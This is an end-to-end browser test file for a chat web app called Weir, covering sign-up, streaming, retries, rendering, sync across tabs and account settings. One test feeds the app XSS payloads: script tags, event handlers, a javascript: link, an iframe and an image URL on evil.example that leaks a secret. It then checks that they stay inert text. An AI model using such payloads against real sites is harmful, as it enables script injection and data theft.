// A person's ways through the web app: real nginx, responders, database, Chromium.
//
//	WEIR_URL=… WEIR_ADMIN_LOGIN=… WEIR_ADMIN_PASSWORD=… node journeys.mjs [part of a name]
import { createHmac } from "node:crypto";
import { readdirSync, readFileSync } from "node:fs";
import {
	accessible,
	admin,
	answers,
	api,
	badLine,
	balanceOf,
	chooseModel,
	CORNERS,
	equal,
	fromMenu,
	grant,
	holds,
	input,
	journey,
	liveAnswer,
	look,
	newPage,
	newUser,
	openSidebar,
	PASSWORD,
	runAll,
	send,
	shot,
	signIn,
	until,
	URL_BASE,
	waitAnswer,
	WAYS,
} from "./lib.mjs";

const TEXT = {
	en: { placeholder: "Send a message…", stop: "Stop", register: "Create account", signOut: "Sign out", stopped: "Stopped.", regenerate: "Answer again", again: "Try again" },
	zh: { placeholder: "发消息...", stop: "停止生成", register: "注册", signOut: "退出登录", stopped: "已停止生成", regenerate: "重新生成", again: "重试" },
};

// -- the whole way, at both sizes, in both languages and themes

for (const way of CORNERS)
	journey(`register, chat, stop, regenerate, switch, reload, settings, sign out (${way.name})`, async () => {
		const page = await newPage(way);
		const words = TEXT[way.language];
		const email = `way-${way.name}-${Date.now()}@example.org`;

		// register
		await page.goto(`${URL_BASE}/register`);
		await page.locator('input[autocomplete="username"]').fill(email);
		await page.locator('input[autocomplete="nickname"]').fill("Ada");
		await page.locator('input[autocomplete="new-password"]').fill("short");
		await page.getByRole("button", { name: words.register }).click();
		await page.getByRole("alert").waitFor();
		await page.locator('input[autocomplete="new-password"]').fill(PASSWORD);
		await page.getByRole("button", { name: words.register }).click();
		await input(page).waitFor();
		equal(await input(page).getAttribute("placeholder"), words.placeholder, "placeholder");
		const token = await page.evaluate(() => localStorage.length && JSON.stringify({ ...localStorage }));
		holds(!/eyJ|wr_/.test(String(token)), "a token is in localStorage");

		// chat
		await send(page, "Tell me about weirs [[demo deltas=120 pace=40]]"); // long enough to be seen at work
		await liveAnswer(page).locator(".prose").waitFor();
		equal(await page.getByRole("button", { name: words.stop, exact: true }).count(), 1, "stop button while streaming");
		const first = await waitAnswer(page, 1);
		holds((await first.innerText()).includes("Tell me about weirs"), "the answer is about the question");
		equal(await page.getByRole("button", { name: words.stop, exact: true }).count(), 0, "stop button afterwards");
		await until(async () => (await page.getByTestId("title").innerText()).includes("Tell me about weirs"), "the title of the conversation");

		// stop
		await chooseModel(page, "demo-slow");
		await send(page, "A slow one");
		await liveAnswer(page).locator(".prose").waitFor();
		await page.getByRole("button", { name: words.stop, exact: true }).click();
		const second = await waitAnswer(page, 2);
		holds((await second.innerText()).includes(words.stopped), "it says that it was stopped");

		// regenerate a good answer: another version, and the old one stays
		await chooseModel(page, "demo-fast");
		await second.getByRole("button", { name: words.regenerate }).click();
		await answers(page).nth(1).getByText("2/2", { exact: true }).waitFor();
		await waitAnswer(page, 2);
		equal(await answers(page).count(), 2, "answers shown");
		equal(await page.locator('article:not([data-status])').count(), 2, "questions");

		// regenerate a failed one: in its place
		await send(page, `[[demo fault=500 fail=4]] Fail, then work (${way.name})`);
		await waitAnswer(page, 3, "llm_error").catch(() => waitAnswer(page, 3, "error"));
		const failedId = await answers(page).nth(2).getAttribute("data-message");
		await until(async () => {
			const again = answers(page).nth(2).getByRole("button", { name: words.again });
			if (await again.isEnabled({ timeout: 100 }).catch(() => false)) await again.click({ timeout: 1000 }).catch(() => undefined);
			return (await answers(page).nth(2).getAttribute("data-status")) === "success";
		}, "the retried answer succeeds", 60_000);
		equal(await answers(page).count(), 3, "answers after the retry");
		equal(await answers(page).nth(2).getAttribute("data-message"), failedId, "the id of the refilled answer");

		// switch away in the middle, and come back to the whole of it
		await chooseModel(page, "demo");
		await send(page, "[[demo deltas=250 pace=40]] The long river");
		await liveAnswer(page).locator(".prose").waitFor();
		const path = new URL(page.url()).pathname;
		await openSidebar(page, way);
		await page.locator("aside a[href='/']").click();
		await input(page).waitFor();
		equal(await answers(page).count(), 0, "answers in the new conversation");
		await chooseModel(page, "demo-fast");
		await send(page, "Another matter");
		await waitAnswer(page, 1);
		holds(!(await page.getByRole("log").innerText()).includes("The long river"), "nothing leaked into the other conversation");
		await page.locator("[role=status]").filter({ hasText: /Tell me about weirs|Tell me/ }).first().waitFor({ timeout: 60_000 });
		await page.evaluate((to) => history.pushState(null, "", to), path);
		const back = await waitAnswer(page, 4);
		holds((await back.innerText()).includes("The long river"), "the whole answer is there");

		// reload in the middle: it goes on and ends
		await chooseModel(page, "demo");
		await send(page, "[[demo deltas=200 pace=40]] Reload me");
		await liveAnswer(page).locator(".prose").waitFor();
		await page.waitForTimeout(700);
		await page.reload();
		// A machine that is slow to load it may find it ended.
		await answers(page).nth(4).locator(".prose").waitFor();
		const reloaded = await waitAnswer(page, 5);
		holds((await reloaded.innerText()).includes("Reload me"), "the answer after a reload");

		// settings
		await openSidebar(page, way);
		await page.locator("aside footer button").first().click();
		await page.getByRole("menuitem", { name: way.language === "zh" ? "设置" : "Settings", exact: true }).click();
		const dialog = page.getByRole("dialog");
		await dialog.locator("input").first().fill("Grace");
		await dialog.locator("button[type=submit]").click();
		await page.getByText(way.language === "zh" ? "已保存" : "Saved").waitFor();
		await look(page, `settings-${way.name}`);
		await page.keyboard.press("Escape");
		await dialog.waitFor({ state: "detached" });
		await page.goto(`${URL_BASE}/settings`);
		equal(await page.locator("main form input").inputValue(), "Grace", "nickname on /settings");
		await page.goto(`${URL_BASE}/settings/balance`);
		await page.locator("main ul li").first().waitFor();
		await look(page, `balance-${way.name}`);

		// sign out
		await page.goto(`${URL_BASE}/settings`);
		await page.getByRole("button", { name: words.signOut }).click();
		await page.locator('input[autocomplete="current-password"]').waitFor();
		await page.goto(`${URL_BASE}${path}`);
		await page.locator('input[autocomplete="current-password"]').waitFor();
		holds(page.url().includes("next="), "the way back is remembered");
		await page.locator('input[autocomplete="username"]').fill(email);
		await page.locator('input[autocomplete="current-password"]').fill(PASSWORD);
		await page.keyboard.press("Enter");
		await page.waitForURL(`**${path}`);
	});

// -- the screens

for (const way of WAYS)
	journey(`the screens are complete and accessible (${way.name})`, async () => {
		const user = await newUser("Lin");
		const page = await newPage(way);
		await page.goto(`${URL_BASE}/signin`);
		await page.locator("form").waitFor();
		await look(page, `signin-${way.name}`);
		for (const path of ["register", "forgot", "reset"]) {
			await page.goto(`${URL_BASE}/${path}`);
			await page.locator("main h1").waitFor();
			await look(page, `${path}-${way.name}`);
		}
		await signIn(page, user.email);
		await page.locator("main ul button").first().waitFor();
		await look(page, `empty-${way.name}`);
		await chooseModel(page, "demo-fast");
		await send(page, "What is a weir, and why would one build it?");
		await waitAnswer(page, 1);
		await page.locator("pre .hljs-keyword, pre .hljs-built_in, pre .hljs-string").first().waitFor().catch(() => undefined);
		await look(page, `chat-${way.name}`);
		await send(page, "[[demo echo=1]] $$\\int_0^1 x^2\\,dx = \\tfrac13$$\n\nand ![a cat](https://example.org/cat.png)");
		await waitAnswer(page, 2);
		await page.locator("math").first().waitFor();
		await send(page, "[[demo fault=filter]] Something refused");
		await waitAnswer(page, 3, "content_violation");
		await look(page, `refused-${way.name}`);
		if (way.phone) {
			await openSidebar(page, way);
			await page.locator("aside").waitFor();
			await look(page, `sidebar-${way.name}`);
			await page.keyboard.press("Escape");
		}
		await page.locator('button[aria-haspopup="listbox"]').click();
		await look(page, `models-${way.name}`);
		await page.keyboard.press("Escape");
		await page.getByRole("button", { name: way.language === "zh" ? "对话设置" : "Chat settings" }).click();
		await look(page, `advanced-${way.name}`);
		await page.keyboard.press("Escape");
		for (const tab of ["appearance", "password", "sessions"]) {
			await page.goto(`${URL_BASE}/settings/${tab}`);
			await page.getByRole("tabpanel").waitFor();
			await page.getByRole("tabpanel").locator("input, li").first().waitFor();
			await look(page, `${tab}-${way.name}`);
		}
		await page.goto(`${URL_BASE}/nowhere`);
		await page.getByRole("heading").waitFor();
		await look(page, `nowhere-${way.name}`);
	});

// -- what goes wrong

journey("402 says what is there and what is needed; after a grant the same answer is made", async () => {
	const user = await newUser();
	await grant(user, -(await balanceOf(user)));
	const page = await newPage();
	await signIn(page, user.email);
	await send(page, "Too poor for this");
	await page.getByText("Not enough credits").first().waitFor();
	const refused = await waitAnswer(page, 1, "insufficient_balance");
	await look(page, "credits-402");
	const id = await refused.getAttribute("data-message");
	equal(await page.getByTestId("balance").innerText(), "0 credits", "balance before");
	await grant(user, 50);
	await until(async () => (await page.getByTestId("balance").innerText()) === "50 credits", "the new balance, live");
	await refused.getByRole("button", { name: "Try again" }).click();
	const answer = await waitAnswer(page, 1);
	equal(await answer.getAttribute("data-message"), id, "the id of the answer");
	holds((await answer.innerText()).includes("Too poor for this"), "the answer");
});

journey("429 says how long to wait, is not tried again by itself, and gives the words back", async () => {
	const user = await newUser();
	const page = await newPage();
	await signIn(page, user.email);
	const made = await api("POST", "/api/conversations", { token: user.token, json: {} });
	const path = `/api/conversations/${made.json.id}/messages/stream`;
	await until(
		async () => {
			const r = await api("POST", path, { token: user.token, json: { content: "x", model: "demo-fast" } });
			return r.status === 429 && r.json.code === "rate_limited";
		},
		"the rate limit",
		60_000,
	);
	let asked = 0;
	page.on("request", (r) => {
		if (r.url().endsWith("/messages/stream")) asked += 1;
	});
	await send(page, "One too many");
	await page.getByText(/Please wait \d+ s/).waitFor();
	await shot(page, "rate-429");
	equal(await input(page).inputValue(), "One too many", "the words in the input");
	await page.waitForTimeout(2_500);
	equal(asked, 1, "requests");
});

journey("a full task queue is told in words, before asking", async () => {
	const user = await newUser();
	const page = await newPage(WAYS[1]);
	const abort = new AbortController();
	for (let i = 0; i < 15; i += 1) {
		const { json } = await api("POST", "/api/conversations", { token: user.token, json: {} });
		const r = await fetch(`${URL_BASE}/api/conversations/${json.id}/messages/stream`, {
			method: "POST",
			signal: abort.signal,
			headers: { "Content-Type": "application/json", Authorization: `Bearer ${user.token}` },
			body: JSON.stringify({ content: "[[demo duration=60000]] wait", model: "demo" }),
		});
		equal(r.status, 200, `stream ${i + 1}`);
	}
	try {
		await signIn(page, user.email);
		await page.waitForTimeout(500);
		await send(page, "第十六个");
		await page.getByText("任务队列已满，请等待当前任务完成").waitFor();
		await shot(page, "queue-full");
		equal(await input(page).inputValue(), "第十六个", "the words in the input");
	} finally {
		abort.abort();
		const active = await api("GET", "/api/tasks?active=true&limit=100", { token: user.token });
		await Promise.all(active.json.items.map((t) => api("POST", `/api/tasks/${t.id}/abort`, { token: user.token })));
	}
});

journey("a lost connection is taken up again, and nothing is lost or doubled", async () => {
	const user = await newUser();
	const page = await newPage();
	const line = await badLine();
	await signIn(page, user.email, PASSWORD, "/", line.url);
	await chooseModel(page, "demo");
	await send(page, "[[demo deltas=200 pace=25]] Over a bad line");
	await liveAnswer(page).locator(".prose").waitFor();
	await page.waitForTimeout(800);
	line.cut();
	await page.getByText("Connection lost, reconnecting…").waitFor();
	holds((await liveAnswer(page).innerText()).includes("About"), "what was there stays");
	await shot(page, "reconnecting");
	await page.waitForTimeout(1_500);
	line.mend();
	const shown = await (await waitAnswer(page, 1)).locator(".prose").innerText();
	const id = new URL(page.url()).pathname.split("/").pop();
	const kept = (await api("GET", `/api/conversations/${id}/messages`, { token: user.token })).json.items[1].content;
	const letters = (s) => s.replace(/[^\p{L}\p{N}]/gu, "");
	holds(letters(kept).length > 300, "a long answer");
	const seen = letters(shown).replace(/python|sh|json|Code/g, "");
	holds(Math.abs(seen.length - letters(kept).replace(/python|sh|json|Code/g, "").length) < 40, "the page shows what the server has");
	line.close();
});

journey("a script in a model's answer stays text", async () => {
	const user = await newUser();
	const page = await newPage();
	await signIn(page, user.email);
	await chooseModel(page, "demo-fast");
	const evil =
		"[[demo echo=1]] <script>window.hacked=1</script><img src=x onerror=\"window.hacked=1\">\n\n" +
		"[link](javascript:window.hacked=1) and\n\n<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>\n\n" +
		"<svg onload=window.hacked=1>\n\nhere ![x](https://evil.example/steal?q=secret)";
	const asked = [];
	page.on("request", (r) => asked.push(r.url()));
	await send(page, evil);
	const answer = await waitAnswer(page, 1);
	await page.waitForTimeout(500);
	equal(await page.evaluate(() => window.hacked), undefined, "window.hacked");
	holds((await answer.innerText()).includes("<script>"), "the tag is shown as text");
	equal(await answer.locator("script, iframe, svg[onload], img").count(), 0, "elements made from the answer");
	equal(await answer.locator('a[href^="javascript"]').count(), 0, "javascript links");
	equal(asked.filter((u) => u.includes("evil.example")).length, 0, "requests to the other host");
	await shot(page, "injection");
});

journey("the empty page offers what an answer can be made of", async () => {
	const user = await newUser();
	const parts = [
		[0, "math"], [1, "table"], [2, "pre"], [3, "h3"], [4, ".prose"], [5, "ol"],
	];
	for (const [i, [idea, part]] of parts.entries()) {
		const way = WAYS[i % WAYS.length];
		const page = await newPage(way);
		await signIn(page, user.email);
		if (i < WAYS.length) await look(page, `empty-${way.name}`);
		equal(await page.locator("main ul button").count(), parts.length, "ideas");
		await page.locator("main ul button").nth(idea).click();
		await chooseModel(page, "demo-fast");
		await input(page).press("Enter");
		const answer = await waitAnswer(page, 1);
		await answer.locator(part).first().waitFor();
		const han = ((await answer.locator(".prose").innerText()).match(/[\u4e00-\u9fff]/g) ?? []).length;
		// The fifth asks for the other language.
		equal(han > 40, (way.language === "zh") !== (idea === 4), `${han} Chinese characters in ${way.name}`);
		if (i < WAYS.length) await look(page, `idea-${idea}-${way.name}`);
	}
});

const RICH = `[[demo echo=1]] Inline \\(a^2 + b^2 = c^2\\) and a price of $5, or US$10.

\\[
\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix} \\begin{cases} x & x > 0 \\\\ -x & \\text{otherwise} \\end{cases}
\\]

$$\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2} = 1 + 2 + 3 + 4 + 5 + 6 + 7 + 8 + 9 + 10 + 11 + 12 + 13 + 14 + \\dots + (n-2) + (n-1) + n \\in \\mathbb{N}$$

**重点。**后面的文字，~~删除。~~再来。H<sub>2</sub>O, <kbd>Ctrl</kbd>, <mark>seen</mark>[^1].

- [x] buy tea
- [ ] walk

| a | b |
|--|--|
| one<br>two | \\(|x|\\) |

<details>
<summary>More</summary>

Hidden **text**.

</details>

[^1]: The note.`;

for (const way of CORNERS)
	journey(`formulas, emphasis, tags and footnotes are drawn as meant (${way.name})`, async () => {
		const user = await newUser();
		const page = await newPage(way);
		await signIn(page, user.email);
		await chooseModel(page, "demo-fast");
		await send(page, RICH);
		const answer = await waitAnswer(page, 1);
		await answer.locator("math").nth(3).waitFor();
		equal(await answer.locator('math[display="block"]').count(), 2, "displayed formulas");
		holds(!/\\\(|\\\[|\$\$|\*\*/.test(await answer.innerText()), "marks are left");
		holds((await answer.innerText()).includes("$5, or US$10"), "the prices");
		const cells = await answer.locator("mtd").evaluateAll((all) => all.slice(0, 2).map((el) => el.getBoundingClientRect().toJSON()));
		const letters = await answer.locator("mtd mi").evaluateAll((all) => all.slice(0, 2).map((el) => el.getBoundingClientRect().toJSON()));
		holds(cells[1].left >= cells[0].right - 1 && letters[1].left - letters[0].right > 8, `columns: ${JSON.stringify([cells, letters])}`);
		await answer.locator("summary").click();
		await answer.getByText("Hidden").waitFor();
		await look(page, `rich-${way.name}`);
		await answer.locator("sup a").click();
		await page.waitForTimeout(400);
		equal(await answer.locator("li:focus").count(), 1, "the footnote has the focus");
		equal(page.context().pages().length, 1, "pages");
		await answer.evaluate((el) => el.scrollIntoView({ block: "start" }));
		await shot(page, `rich-top-${way.name}`);
	});

for (const way of CORNERS)
	journey(`versions: a question edited, an answer made again, everywhere the same; deleted from here (${way.name})`, async () => {
		const zh = way.language === "zh";
		const words = zh
			? { edit: "编辑", again: "重新生成", before: "上一个版本", after: "下一个版本", send: "发送", remove: "删除消息", sure: "删除", below: "同时删除之后的所有内容", good: "回答得好" }
			: { edit: "Edit", again: "Answer again", before: "Previous version", after: "Next version", send: "Send", remove: "Delete message", sure: "Delete", below: "And everything after it", good: "Good answer" };
		const user = await newUser();
		const page = await newPage(way);
		await signIn(page, user.email);
		await chooseModel(page, "demo-fast");
		for (const [i, text] of ["First matter", "Second matter"].entries()) {
			await send(page, text);
			await waitAnswer(page, i + 1);
		}
		const questions = page.locator("article:not([data-status])");
		const said = async (where = page) => (await where.locator("article:not([data-status]) p.whitespace-pre-wrap").allInnerTexts()).join(" | ");

		// edited: the new words stand where the old ones stood, and what followed is gone from view
		await questions.first().hover();
		await questions.first().getByRole("button", { name: words.edit }).click();
		const editor = page.locator("article textarea");
		await editor.fill("First matter, in other words");
		await look(page, `edit-${way.name}`);
		await page.locator("article").getByRole("button", { name: words.send, exact: true }).click();
		await questions.first().getByText("2/2", { exact: true }).waitFor();
		await waitAnswer(page, 1);
		equal(await said(), "First matter, in other words", "what is shown");

		// an answer, again
		await answers(page).first().getByRole("button", { name: words.again }).click();
		await answers(page).first().getByText("2/2", { exact: true }).waitFor();
		await waitAnswer(page, 1);
		await answers(page).first().getByRole("button", { name: words.good }).click();
		await look(page, `versions-${way.name}`);

		// another device sees the same, and turns back
		const other = await newPage(WAYS[0]);
		await signIn(other, user.email, PASSWORD, new URL(page.url()).pathname);
		await answers(other).first().getByText("2/2", { exact: true }).waitFor();
		equal(await other.getByRole("button", { name: "Good answer" }).getAttribute("aria-pressed"), "true", "the verdict, elsewhere");
		equal(await said(other), "First matter, in other words", "what the other device shows");
		await other.locator("article:not([data-status])").first().getByRole("button", { name: "Previous version" }).click();
		await until(async () => (await said(other)) === "First matter | Second matter", "the first version is back");
		await until(async () => (await said()) === "First matter | Second matter", "here as well");
		await page.reload();
		await until(async () => (await said()) === "First matter | Second matter", "after a reload");

		// from here on, and a question with its answer
		await questions.nth(1).hover();
		await questions.nth(1).getByRole("button", { name: words.remove }).click();
		await page.getByRole("dialog").getByRole("button", { name: words.sure, exact: true }).click();
		await until(async () => (await said()) === "First matter", "the second question is gone");
		equal(await answers(page).count(), 1, "its answer as well");
		await send(page, "Third matter");
		await waitAnswer(page, 2);
		await fromMenu(page, answers(page).first(), words.remove, zh ? "更多" : "More");
		await page.getByRole("dialog").getByLabel(words.below).check();
		await look(page, `delete-below-${way.name}`);
		await page.getByRole("dialog").getByRole("button", { name: words.sure, exact: true }).click();
		await until(async () => (await answers(page).count()) === 0, "all from there is gone");
		equal(await said(), "First matter", "what is left");
	});

for (const way of CORNERS)
	journey(`compare: one question to two models, one of them stopped, and on with one (${way.name})`, async () => {
		const zh = way.language === "zh";
		const words = zh
			? { with: "对比模型…", done: "完成", answers: "回答对比", stop: "停止 demo-slow", stopped: "已停止生成", follow: "以此继续", followed: "将以此继续", all: "并排显示" }
			: { with: "Compare with…", done: "Done", answers: "Answers compared", stop: "Stop demo-slow", stopped: "Stopped.", follow: "Go on with this one", followed: "Goes on with this one", all: "Show side by side" };
		const user = await newUser();
		const page = await newPage(way);
		await signIn(page, user.email);
		await chooseModel(page, "demo-fast");
		// by keyboard: the last entry of the list of models
		await page.locator('button[aria-haspopup="listbox"]').focus();
		await page.keyboard.press("Enter");
		await page.getByRole("option").first().waitFor();
		await page.getByRole("button", { name: words.with }).focus();
		await page.keyboard.press("Enter");
		await page.getByRole("option", { name: /^demo-slow( |$)/ }).focus();
		await page.keyboard.press("Enter");
		await look(page, `compare-choose-${way.name}`);
		await page.getByRole("button", { name: words.done }).click();
		await page.locator('[data-compared="demo-slow"]').waitFor();

		await send(page, "What is a weir? [[demo model=demo-slow deltas=900 pace=20]]");
		const section = page.getByRole("region", { name: words.answers });
		const tab = (name) => section.getByRole("tab", { name });
		const column = (name) => section.locator("article").filter({ has: page.getByRole("heading", { name, exact: true }) });
		const turnTo = async (name) => way.phone && (await tab(name).click());
		await section.waitFor();
		equal(await section.locator("article").count(), way.phone ? 1 : 2, "columns");
		await turnTo("demo-fast");
		await column("demo-fast").and(page.locator('[data-status="success"][aria-busy="false"]')).waitFor();
		await turnTo("demo-slow");
		await column("demo-slow").locator(".prose").first().waitFor();
		await look(page, `compare-live-${way.name}`);
		await column("demo-slow").getByRole("button", { name: words.stop }).click();
		await column("demo-slow").getByText(words.stopped).waitFor();
		await look(page, `compare-${way.name}`);

		// the other is followed, here and after a reload
		await column("demo-slow").getByRole("button", { name: words.follow }).click();
		await column("demo-slow").getByText(words.followed).waitFor();
		await page.reload();
		await section.waitFor();
		await turnTo("demo-slow");
		await column("demo-slow").getByText(words.followed).waitFor();
		await send(page, "And what is it good for?");
		await page.getByRole("button", { name: words.all }).waitFor();
		await waitAnswer(page, 2);
		holds((await answers(page).first().innerText()).includes("demo-slow"), "the followed one is shown alone");
		await look(page, `compare-gone-on-${way.name}`);
		await page.getByRole("button", { name: words.all }).click();
		await section.waitFor();
	});

journey("small things: a picture grows, a conversation that is not there", async () => {
	const user = await newUser();
	const page = await newPage();
	await signIn(page, user.email);
	const files = page.locator('input[type="file"]').first();
	const picture = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");
	await files.setInputFiles({ name: "weir at dawn.png", mimeType: "image/png", buffer: picture });
	await page.getByRole("img", { name: "weir at dawn.png" }).waitFor();
	await chooseModel(page, "demo");
	await send(page, "What is on it?");
	await page.getByRole("button", { name: "Enlarge image" }).click();
	const large = page.getByRole("dialog").locator("img");
	await large.waitFor();
	const width = async () => (await large.boundingBox()).width;
	const before = await width();
	await page.getByRole("button", { name: "Zoom in" }).click();
	await page.getByRole("button", { name: "Zoom in" }).click();
	await until(async () => (await width()) > before * 1.8, "the picture is larger");
	await page.keyboard.press("Escape");

	await page.goto(`${URL_BASE}/c/01a228f3-893d-7857-9b8e-0206045621c6`);
	await until(async () => (await page.getByTestId("title").innerText()) === "No such conversation", "the title says so");
});

journey("a first visit: three steps, once; and the page is there without a network", async () => {
	const user = await newUser();
	const page = await newPage(WAYS[0], null, true);
	page.setDefaultTimeout(60_000);
	await signIn(page, user.email);
	const welcome = page.getByRole("dialog", { name: "Welcome" });
	await welcome.getByText("Ask something").waitFor();
	await look(page, "welcome");
	await welcome.getByRole("button", { name: "Next" }).click();
	await welcome.getByRole("button", { name: "Next" }).click();
	await welcome.getByRole("button", { name: "Start" }).click();
	await until(async () => (await welcome.count()) === 0, "the welcome is gone", 60_000);
	await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
	await page.reload();
	await input(page).waitFor();
	equal(await welcome.count(), 0, "it does not come back");
	// nothing of the user is kept by the worker
	const kept = await page.evaluate(async () => {
		const all = await Promise.all((await caches.keys()).map(async (name) => (await (await caches.open(name)).keys()).map((r) => new URL(r.url).pathname)));
		return all.flat();
	});
	holds(kept.includes("/index.html"), "the page itself is kept");
	equal(kept.filter((path) => path !== "/index.html" && !path.startsWith("/assets/")).join(), "", "what is kept besides");
	await page.context().setOffline(true);
	await page.reload();
	await page.getByText("No connection to the server").waitFor();
	await page.context().setOffline(false);
	await input(page).waitFor();
});

journey("notifications: a message of the server is shown; what is preferred holds on a second device", async () => {
	const user = await newUser();
	const page = await newPage(WAYS[0], null, true);
	page.setDefaultTimeout(60_000);
	await page.context().grantPermissions(["notifications"]);
	await signIn(page, user.email);
	/** Once the server has it. */
	const kept = async (press) => {
		const answer = page.waitForResponse((r) => r.url().endsWith("/api/me/preferences") && r.request().method() === "PATCH", { timeout: 60_000 });
		await press();
		equal((await answer).status(), 200, "it is kept");
	};
	await kept(() => page.getByRole("dialog", { name: "Welcome" }).getByRole("button", { name: "Skip" }).click());
	await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
	await page.goto(`${URL_BASE}/settings/notifications`);
	await page.getByText("Nothing is shown on this device.").waitFor();
	await look(page, "notifications");
	await kept(() => page.getByRole("switch", { name: "Documents that have been read" }).click({ force: true }));
	// as the browser's push service would
	const cdp = await page.context().newCDPSession(page);
	const registered = new Promise((done) => cdp.on("ServiceWorker.workerRegistrationUpdated", ({ registrations }) => registrations[0] && done(registrations[0])));
	await cdp.send("ServiceWorker.enable");
	const { registrationId, scopeURL } = await registered;
	const data = JSON.stringify({ title: "Your picture is ready", path: "/media", tag: "task 1" });
	await cdp.send("ServiceWorker.deliverPushMessage", { origin: new URL(scopeURL).origin, registrationId, data });
	const shown = () => page.evaluate(async () => (await (await navigator.serviceWorker.ready).getNotifications()).map((n) => `${n.title} ${n.tag} ${n.data.path}`).join());
	await until(async () => (await shown()) === "Your picture is ready task 1 /media", "it is shown", 60_000);
	await page.goto(`${URL_BASE}/settings/appearance`);
	await kept(() => page.getByText("Dark", { exact: true }).click());
	await until(() => page.evaluate(() => document.documentElement.dataset.theme === "dark"), "the page is dark");

	const second = await newPage(WAYS[0], null, true);
	second.setDefaultTimeout(60_000);
	await signIn(second, user.email);
	await until(() => second.evaluate(() => document.documentElement.dataset.theme === "dark"), "it is dark there, too", 60_000);
	equal(await second.getByRole("dialog", { name: "Welcome" }).count(), 0, "nobody is welcomed twice");
	await second.goto(`${URL_BASE}/settings/notifications`);
	await second.getByRole("switch", { name: "Documents that have been read" }).waitFor();
	equal(await second.getByRole("switch", { name: "Documents that have been read" }).isChecked(), false, "what one is told of");
});

journey("making an administrator asks first", async () => {
	const user = await newUser("Candidate");
	const page = await newPage();
	await signIn(page, process.env.WEIR_ADMIN_LOGIN, process.env.WEIR_ADMIN_PASSWORD, "/admin/users");
	await page.getByRole("searchbox", { name: "Search" }).or(page.locator('input[type="search"]')).first().fill(user.email);
	const row = page.locator("tbody tr").filter({ hasText: user.email });
	await row.getByRole("button", { name: "Actions" }).click();
	await page.getByRole("menuitem", { name: "Make administrator" }).click();
	await look(page, "promote");
	const role = async () => (await api("GET", `/api/admin/users/${user.id}`, { token: await admin() })).json.role;
	equal(await role(), "user", "the role while it is asked");
	await page.getByRole("dialog").getByRole("button", { name: "Cancel" }).click();
	equal(await role(), "user", "the role after Cancel");
	await row.getByRole("button", { name: "Actions" }).click();
	await page.getByRole("menuitem", { name: "Make administrator" }).click();
	await page.getByRole("dialog").getByRole("button", { name: "Make administrator" }).click();
	await until(async () => (await role()) === "admin", "the new role");
});

journey("an answer that reached its length says so, and goes on", async () => {
	const user = await newUser();
	const page = await newPage();
	await signIn(page, user.email);
	await chooseModel(page, "demo-fast");
	await send(page, "[[demo finish=length]] Tell me much");
	await waitAnswer(page, 1);
	await page.getByText("reached the model's length limit").waitFor();
	await look(page, "cut");
	await page.reload();
	await page.getByText("reached the model's length limit").waitFor();
	await page.getByRole("button", { name: "Continue", exact: true }).click();
	await waitAnswer(page, 2);
	equal(await page.getByRole("button", { name: "Continue", exact: true }).count(), 0, "buttons to continue");
});

// -- together

journey("two tabs and two browsers stay in step", async () => {
	const user = await newUser();
	const one = await newPage();
	await signIn(one, user.email);
	const two = await newPage(WAYS[0], one.context());
	await two.goto(URL_BASE);
	await input(two).waitFor();
	const three = await newPage();
	await signIn(three, user.email);

	await send(one, "[[demo deltas=300 pace=30]] Seen by all");
	await liveAnswer(one).locator(".prose").waitFor();
	const path = new URL(one.url()).pathname;
	for (const other of [two, three]) {
		await other.goto(URL_BASE + path);
		await answers(other).first().locator(".prose").waitFor();
	}
	await waitAnswer(one, 1);
	for (const other of [two, three]) {
		const text = await (await waitAnswer(other, 1)).innerText();
		holds(text.includes("Seen by all"), "the answer in the other page");
		await other.locator("aside a", { hasText: "Seen by all" }).waitFor();
	}
	// a question in the third appears in the first
	await send(three, "[[demo deltas=60 pace=30]] From the other side");
	await one.getByText("From the other side").first().waitFor();
	await waitAnswer(one, 2);
	// a new name is everywhere
	await one.getByRole("button", { name: "Rename" }).first().click();
	await one.keyboard.type("Common ground");
	await one.keyboard.press("Enter");
	for (const page of [one, two, three]) {
		await page.locator("aside a", { hasText: "Common ground" }).waitFor();
		await until(async () => (await page.getByTestId("title").innerText()) === "Common ground", "the title bar");
	}
	// signing out in one tab signs out the other tab of this browser only
	await one.locator("aside footer button").first().click();
	await one.getByRole("menuitem", { name: "Sign out" }).click();
	await two.locator('input[autocomplete="current-password"]').waitFor();
	equal(await input(three).count(), 1, "the other browser is signed in");
});

journey("many tabs share one line for events, and one of them takes over", async () => {
	const user = await newUser();
	const first = await newPage();
	await signIn(first, user.email);
	const tabs = [first];
	for (let i = 0; i < 6; i += 1) {
		const tab = await newPage(WAYS[0], first.context());
		await tab.goto(URL_BASE);
		await tab.getByTestId("balance").waitFor();
		tabs.push(tab);
	}
	const before = await balanceOf(user);
	await grant(user, 10);
	for (const tab of tabs) await until(async () => (await tab.getByTestId("balance").innerText()) === `${before + 10} credits`, "the balance in every tab");
	await first.close();
	await tabs[6].waitForTimeout(1_500);
	await grant(user, 10);
	for (const tab of tabs.slice(1)) await until(async () => (await tab.getByTestId("balance").innerText()) === `${before + 20} credits`, "the balance in the tabs that are left");
});

journey("password: changed, forgotten and set anew; signed out everywhere", async () => {
	const user = await newUser();
	const page = await newPage();
	await signIn(page, user.email);
	await page.goto(`${URL_BASE}/settings/password`);
	const field = (name) => page.getByLabel(name, { exact: true });
	await field("Current password").fill("not my password");
	await field("New password").fill("a new password");
	await field("New password again").fill("a new one");
	await page.getByRole("button", { name: "Change password" }).click();
	await page.getByText("The two are not the same.").waitFor();
	await field("New password again").fill("a new password");
	await page.getByRole("button", { name: "Change password" }).click();
	await page.getByText("This is not your current password.").waitFor();
	await field("Current password").fill(PASSWORD);
	await page.getByRole("button", { name: "Change password" }).click();
	await page.getByText("Your password is changed").waitFor();

	// everywhere
	const other = await newPage();
	await signIn(other, user.email, "a new password");
	await page.goto(`${URL_BASE}/settings/sessions`);
	await until(async () => (await page.getByRole("tabpanel").getByRole("listitem").count()) >= 2, "both devices are listed");
	await page.getByRole("button", { name: "Sign out everywhere" }).click();
	await look(page, "sign-out-everywhere");
